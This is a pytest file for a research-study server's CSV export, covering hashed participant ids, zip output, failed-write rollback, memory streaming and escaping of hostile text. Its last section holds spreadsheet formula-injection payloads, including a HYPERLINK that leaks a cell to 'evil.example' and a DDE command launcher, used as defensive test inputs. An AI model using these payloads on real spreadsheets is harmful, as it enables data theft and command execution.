"""The tidy export, on SQLite and PostgreSQL: participants answer through the API, then export."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import re
import tracemalloc
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from participants import answer, auth, join, session
from sqlalchemy import func, insert, select

from percept.cli import cli
from percept.errors import PerceptError
from study_server import export
from study_server.assignment import hash_token
from study_server.db import db
from study_server.export import FILES, column_table, data_dictionary, export_zip, write_export
from study_server.models import Image, Participant, Response, Study, Trial

ROOT = Path(__file__).resolve().parent.parent
CSV_FILES = ("trials.csv", "participants.csv", "images.csv")
ALL_FILES = {*CSV_FILES, "data_dictionary.md"}


def read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.fixture
def crowd(app, make_study):
    """A Prolific study and four people: one right, one careless, one halfway, one idle.

    Returns {prolific_pid: {"token": ..., "choices": {trial_id: choice}}}.
    """
    make_study(
        platform="prolific",
        # Readable made-up ids, not Prolific's 24 hex digits. Some answers below are
        # flagged invalid: no repeats, so every session keeps its planned trials.
        extra='completion_code = "DEMO-CODE"\ncheck_platform_ids = false\n'
        "[timing]\nrepeat_invalid = false",
    )
    client = app.test_client()
    people = {}
    plans = {
        "PID-right": "right",
        "PID-careless": "careless",
        "PID-halfway": "half",
        "PID-idle": None,
    }
    for n, (pid, plan) in enumerate(plans.items()):
        r = join(client, prolific_pid=pid, study_id="STUDY-1", session_id=f"SESSION-{n}")
        assert r.status_code == 201, r.json
        token = r.json["token"]
        trials = session(client, token)["trials"]
        with app.app_context():
            expected = dict(db.session.execute(select(Trial.id, Trial.expected)).all())
        choices = {}
        if plan is not None:
            todo = trials if plan != "half" else trials[:10]
            for t in todo:
                choice = "real" if plan == "careless" else expected[t["id"]]
                # Odd positions carry every timing field, one of them tiny, to check the format.
                extra = (
                    {
                        "onset_ms": 0.00001,
                        "displayed_ms": 499.8,
                        "frames": 30,
                        "frame_ms": 16.66,
                        "valid": t["position"] % 3 != 0,
                        "invalid_reason": None if t["position"] % 3 else "late frame",
                        "input": "key",
                        "client_sent_at": 1.7e12,
                    }
                    if t["position"] % 2
                    else {}
                )
                assert answer(client, token, t["id"], choice, **extra).status_code == 200
                choices[t["id"]] = choice
        if plan in ("right", "careless"):
            done = client.post("/api/v1/session/complete", headers=auth(token))
            assert done.status_code == 200, done.json
        people[pid] = {"token": token, "choices": choices}
    return people


def test_every_trial_is_one_row_and_answers_are_exported_once(app, crowd, tmp_path):
    out = tmp_path / "export"
    with app.app_context():
        counts = write_export(out, slug="t")
        db_trials = db.session.scalar(select(func.count()).select_from(Trial))
        db_images = db.session.scalar(select(func.count()).select_from(Image))
        sources = dict(db.session.execute(select(Image.public_id, Image.source)).all())
    assert {p.name for p in out.iterdir()} == ALL_FILES, "a temporary file was left"
    rows = {name: read(out / name) for name in CSV_FILES}
    assert counts == {name: len(rows[name]) for name in CSV_FILES}
    for name in CSV_FILES:
        header = (out / name).read_text().splitlines()[0]
        assert header == ",".join(c.name for c in FILES[name][1])

    trials = rows["trials.csv"]
    assert len(trials) == db_trials == 4 * (4 + 10 + 10 + 3)
    assert len({t["trial_id"] for t in trials}) == len(trials)
    assert len({(t["participant_id"], t["position"]) for t in trials}) == len(trials)
    sent = {tid: choice for p in crowd.values() for tid, choice in p["choices"].items()}
    answered = {int(t["trial_id"]): t["choice"] for t in trials if t["answered"] == "true"}
    assert answered == sent, "every answer sent is exported exactly once, as sent"
    for t in trials:
        assert t["study"] == "t" and t["condition"].startswith("scenes/")
        assert t["source"] == sources[t["image_id"]]
        assert (t["model"] == "") == (t["source"] == "real" or t["role"] == "catch")
        if t["model"] and t["role"] == "main":  # practice images may come from any model
            assert t["condition"] == f"{t['dataset']}/{t['model']}"
        if t["answered"] == "false":
            assert t["choice"] == t["correct"] == t["rt_ms"] == t["valid"] == ""
            assert t["received_at"] == ""
            continue
        assert t["correct"] == ("true" if t["choice"] == t["expected"] else "false")
        if t["kind"] == "stimulus":
            assert t["expected"] == t["source"]
            assert t["correct"] == ("true" if t["choice"] == t["source"] else "false")
        assert t["rt_ms"] == "612.5" and t["valid"] in ("true", "false")
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", t["received_at"])
        datetime.fromisoformat(t["received_at"].replace("Z", "+00:00"))
        if int(t["position"]) % 2:
            assert (t["onset_ms"], t["frames"], t["frame_ms"]) == ("0.00001", "30", "16.66")
            assert t["client_sent_at"] == "1700000000000.0"
            assert t["valid"] == ("false" if int(t["position"]) % 3 == 0 else "true")
        else:
            assert t["onset_ms"] == t["frames"] == t["input"] == ""

    people = {p["platform_pid"]: p for p in read(out / "participants.csv")}
    assert len(people) == 4
    completed = [p for p in people.values() if p["state"] == "completed"]
    assert len(completed) == 2
    right = next(p for p in completed if p["attention_failures"] == "0")
    careless = next(p for p in completed if p["attention_failures"] != "0")
    assert (right["excluded"], right["exclusion_reasons"]) == ("false", "")
    assert careless["excluded"] == "true" and "attention" in careless["exclusion_reasons"]
    for p in completed:
        assert (p["main_trials"], p["answered_main"], p["attention_checks"]) == ("23", "23", "3")
        assert p["median_rt_ms"] == "612.5" and p["completed_at"].endswith("Z")
    for p in people.values():
        assert p["platform"] == "prolific" and p["condition"].startswith("scenes/")
        if p["state"] != "completed":
            assert p["excluded"] == p["exclusion_reasons"] == p["completed_at"] == ""
    assert sorted(int(p["answered_main"]) for p in people.values()) == [0, 6, 23, 23]

    images = rows["images.csv"]
    assert len(images) == db_images
    assert {t["image_id"] for t in trials} <= {i["image_id"] for i in images}
    everything = "".join((out / name).read_text() for name in ALL_FILES)
    for person in crowd.values():
        assert person["token"] not in everything
        assert hash_token(person["token"]) not in everything


def test_platform_ids_are_hashed_unless_asked_for(app, crowd, tmp_path):
    with app.app_context():
        salt = db.session.scalar(select(Study.salt))
        write_export(tmp_path / "a", slug="t")
        write_export(tmp_path / "b")
        write_export(tmp_path / "raw", slug="t", include_platform_ids=True)
    hashed = (tmp_path / "a" / "participants.csv").read_text()
    assert hashed == (tmp_path / "b" / "participants.csv").read_text(), "hashes are not stable"
    raw_ids = [*crowd, "STUDY-1", "SESSION-0", "DEMO-CODE"]
    for folder in ("a", "b"):
        text = "".join((tmp_path / folder / name).read_text() for name in ALL_FILES)
        assert not any(raw in text for raw in raw_ids), "a raw platform id in a hashed export"
    digest = hmac.new(salt.encode(), b"PID-right", hashlib.sha256).hexdigest()[:16]
    rows = read(tmp_path / "a" / "participants.csv")
    assert digest in {r["platform_pid"] for r in rows}
    assert all(re.fullmatch(r"[0-9a-f]{16}", r["platform_study_id"]) for r in rows)
    assert {r["assignment_id"] for r in rows} == {""}  # MTurk-only: nothing to hash

    raw = {r["platform_pid"]: r for r in read(tmp_path / "raw" / "participants.csv")}
    assert set(raw) == set(crowd)
    assert raw["PID-right"]["platform_session_id"] == "SESSION-0"
    assert raw["PID-right"]["completion_code"] == "DEMO-CODE"
    assert raw["PID-idle"]["completion_code"] == ""
    assert "raw platform ids" not in (tmp_path / "a" / "data_dictionary.md").read_text()
    assert "raw ids" in (tmp_path / "raw" / "data_dictionary.md").read_text()


class Unseekable(io.RawIOBase):
    """A write-only stream, like a streamed HTTP download."""

    def __init__(self):
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b) -> int:
        self.data += b
        return len(b)


def test_zip_holds_the_same_four_files(app, crowd, tmp_path):
    out, stream = tmp_path / "export", Unseekable()
    with app.app_context():
        write_export(out, slug="t")
        export_zip(stream, slug="t")
    with zipfile.ZipFile(io.BytesIO(bytes(stream.data))) as archive:
        assert set(archive.namelist()) == ALL_FILES
        for name in ALL_FILES:
            assert archive.read(name) == (out / name).read_bytes(), name


def test_unknown_study_and_a_failed_export_leave_nothing_half_written(
    app, crowd, tmp_path, monkeypatch
):
    out = tmp_path / "export"
    with app.app_context():
        write_export(out, slug="t")
        before = {p.name: p.read_bytes() for p in out.iterdir()}
        with pytest.raises(PerceptError, match=r"no study 'nope'.*studies: t"):
            write_export(out, slug="nope")

        def broken(*args):
            raise OSError("disk full")

        monkeypatch.setattr(export, "_write_images", broken)
        with pytest.raises(OSError, match="disk full"):
            write_export(out, slug="t")
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_cli_export(app, db_url, crowd, tmp_path):
    runner = CliRunner()
    out = tmp_path / "out"
    result = runner.invoke(cli, ["export", "--db", db_url, "--out", str(out), "--study", "t"])
    assert result.exit_code == 0, result.output
    assert f"{out / 'trials.csv'}: {4 * 27} rows" in result.output
    assert f"{out / 'participants.csv'}: 4 rows" in result.output
    assert {p.name for p in out.iterdir()} == ALL_FILES
    raw = runner.invoke(
        cli, ["export", "--db", db_url, "--out", str(out), "--include-platform-ids"]
    )
    assert raw.exit_code == 0, raw.output
    assert "PID-right" in (out / "participants.csv").read_text()

    bad = runner.invoke(cli, ["export", "--db", db_url, "--out", str(out), "--study", "nope"])
    assert bad.exit_code == 2
    assert len(bad.output.strip().splitlines()) == 1 and "no study 'nope'" in bad.output


def test_dictionary_and_docs_describe_every_column():
    dictionary = data_dictionary()
    docs = (ROOT / "docs" / "export.md").read_text()
    for name, (_, columns) in FILES.items():
        names = [c.name for c in columns]
        assert len(names) == len(set(names)), f"a column twice in {name}"
        assert all(c.type and c.description for c in columns)
        assert column_table(columns) in dictionary
        for line in column_table(columns).splitlines()[2:]:
            assert line in docs, f"docs/export.md lacks or differs on {name}: {line}"


def add_trials(app, n: int, per_participant: int = 100) -> None:
    """n more answered practice trials, in bulk, for new participants of study 't'.

    Practice trials, because the exclusion stats read only main trials (and stream them in
    batches of their own): so this measures the export's streaming alone.
    """
    with app.app_context():
        study_id = db.session.scalar(select(Study.id))
        image_id = db.session.scalar(select(Image.id).where(Image.source == "real"))
        first = db.session.scalar(select(func.coalesce(func.max(Participant.id), 0))) + 1
        people = range(first, first + n // per_participant)
        db.session.execute(
            insert(Participant),
            [
                {"id": i, "study_id": study_id, "platform": "link", "platform_pid": f"bulk-{i}"}
                | {"seed": i, "state": "practice"}
                for i in people
            ],
        )
        trials = [
            {"id": 10**6 + i * per_participant + k, "participant_id": i, "position": k}
            | {"block": "practice", "kind": "stimulus", "image_id": image_id}
            | {"expected": "real", "planned_exposure_ms": 500.0}
            for i in people
            for k in range(per_participant)
        ]
        db.session.execute(insert(Trial), trials)
        db.session.execute(
            insert(Response),
            [
                {"trial_id": t["id"], "choice": "fake", "correct": False, "rt_ms": 700.25}
                | {"displayed_ms": 500.5, "body": {}}
                for t in trials
            ],
        )
        db.session.commit()


def export_peak(app, out: Path) -> tuple[int, int]:
    """Peak bytes Python allocated during an export, and the trial rows written."""
    with app.app_context():
        tracemalloc.start()
        try:
            counts = write_export(out, slug="t")
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    return peak, counts["trials.csv"]


def test_export_streams_in_bounded_memory(app, make_study, tmp_path, monkeypatch):
    make_study()
    monkeypatch.setattr(export, "YIELD_PER", 100)
    add_trials(app, 1000)
    export_peak(app, tmp_path / "warm-up")  # first-use caches (imports, compiled SQL) aside
    small, small_rows = export_peak(app, tmp_path / "small")
    add_trials(app, 3000)
    large, large_rows = export_peak(app, tmp_path / "large")
    assert (small_rows, large_rows) == (1000, 4000)
    # Loading every row would take about four times the memory for four times the rows.
    assert large < 1.3 * small, (small, large)


# --- Hostile text: no spreadsheet formula, no terminal escape, originals read back ------------

FORMULAS = {
    "user_agent": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "invalid_reason": "=cmd|' /C calc'!A0",
    "input": "@SUM(1+1)",
    "client_id": "=1+1",
}


def hostile_session(app, make_study) -> None:
    """One link participant whose every free-text field is an attack, answered through the API."""
    make_study()
    client = app.test_client()
    r = join(client, client_id=FORMULAS["client_id"], user_agent=FORMULAS["user_agent"])
    assert r.status_code == 201, r.json
    token = r.json["token"]
    trials = session(client, token)["trials"]
    hostile = {"valid": False, "invalid_reason": FORMULAS["invalid_reason"]}
    hostile["input"] = FORMULAS["input"]
    assert answer(client, token, trials[0]["id"], **hostile).status_code == 200
    # ESC sequences and other control characters are dropped at input.
    escape = {"valid": False, "invalid_reason": "\x1b[2J\x1b[31mred\x07", "input": "-\x1b]0;x\x07"}
    assert answer(client, token, trials[1]["id"], **escape).status_code == 200
    # The same answer again is still the same answer (cleaned the same way), not a conflict.
    assert answer(client, token, trials[1]["id"], **escape).status_code == 200
    other = join(client, client_id="plain-9", user_agent="\x1b[1mMozilla\r\n\t5.0\x9b")
    assert other.status_code == 201
    session(client, other.json["token"])  # the first read makes the trial list
    with app.app_context():
        stored = db.session.scalars(select(Response.invalid_reason).order_by(Response.id)).all()
        assert stored == [FORMULAS["invalid_reason"], "[2J[31mred"]
        agents = db.session.scalars(select(Participant.user_agent).order_by(Participant.id)).all()
        assert agents == [FORMULAS["user_agent"], "[1mMozilla5.0"]
        # Rows stored before control characters were cleaned at input (or by other tools).
        db.session.execute(
            Participant.__table__.update()
            .where(Participant.platform_pid == "plain-9")
            .values(user_agent="\tTAB", platform_study_id="'quoted", hit_id="\rCR", state="main")
        )
        db.session.commit()


def text_cells(rows: list[dict[str, str]], file: str) -> list[str]:
    columns = [c.name for c in FILES[file][1] if c.type == "text"]
    return [row[c] for row in rows for c in columns if row[c]]


def test_hostile_text_is_neutralised_and_read_back(app, make_study, tmp_path):
    from analysis.responses import load, read_dictionary, read_table

    hostile_session(app, make_study)
    out = tmp_path / "export"
    with app.app_context():
        write_export(out, include_platform_ids=True)
        buffer = io.BytesIO()
        export_zip(buffer, slug="t")
    archive = zipfile.ZipFile(buffer)
    for file in CSV_FILES:
        zipped = list(csv.DictReader(io.StringIO(archive.read(file).decode(), newline="")))
        for rows in (read(out / file), zipped):
            for cell in text_cells(rows, file):
                # What a spreadsheet would run, or a quote that is ours: always behind a `'`.
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (file, cell)
                assert "\x1b" not in cell and "\x07" not in cell
    trials = read(out / "trials.csv")
    participants = {p["participant_id"]: p for p in read(out / "participants.csv")}
    assert trials[0]["invalid_reason"] == "'" + FORMULAS["invalid_reason"]
    assert trials[0]["input"] == "'" + FORMULAS["input"]
    assert trials[1]["input"] == "'-]0;x"
    first, second = participants["1"], participants["2"]
    assert first["user_agent"] == "'" + FORMULAS["user_agent"]
    assert first["platform_pid"] == "'=1+1"
    assert (second["user_agent"], second["hit_id"]) == ("'\tTAB", "'\rCR")
    assert second["platform_study_id"] == "''quoted"
    # Numbers and the dictionary's own text are left alone.
    assert trials[0]["rt_ms"] == "612.5"
    assert "written with one `'` in front" in (out / "data_dictionary.md").read_text()

    # `percept human`'s loader gives back exactly what was stored.
    frame = load(out)
    assert frame.loc[0, "invalid_reason"] == FORMULAS["invalid_reason"]
    assert frame.loc[0, "input"] == FORMULAS["input"]
    assert frame.loc[1, "input"] == "-]0;x"
    assert set(frame["platform_pid"]) == {"=1+1", "plain-9"}
    people = read_table(out / "participants.csv", read_dictionary(out)["participants.csv"])
    assert list(people["user_agent"]) == [FORMULAS["user_agent"], "\tTAB"]
    assert list(people["platform_study_id"].fillna("")) == ["", "'quoted"]
    assert list(people["hit_id"].fillna("")) == ["", "\rCR"]


def test_an_export_from_before_neutralising_is_read_as_it_is(app, make_study, tmp_path):
    """Older exports have no `'` guard: a leading `'` there is data and stays."""
    from analysis.responses import read_dictionary, read_table

    hostile_session(app, make_study)
    out = tmp_path / "export"
    with app.app_context():
        write_export(out, include_platform_ids=True)
    text = (out / "data_dictionary.md").read_text()
    note = text[text.index("Text cells are safe") : text.index("## trials.csv")]
    (out / "data_dictionary.md").write_text(text.replace(note, ""))
    people = read_table(out / "participants.csv", read_dictionary(out)["participants.csv"])
    assert people.loc[1, "platform_study_id"] == "''quoted"
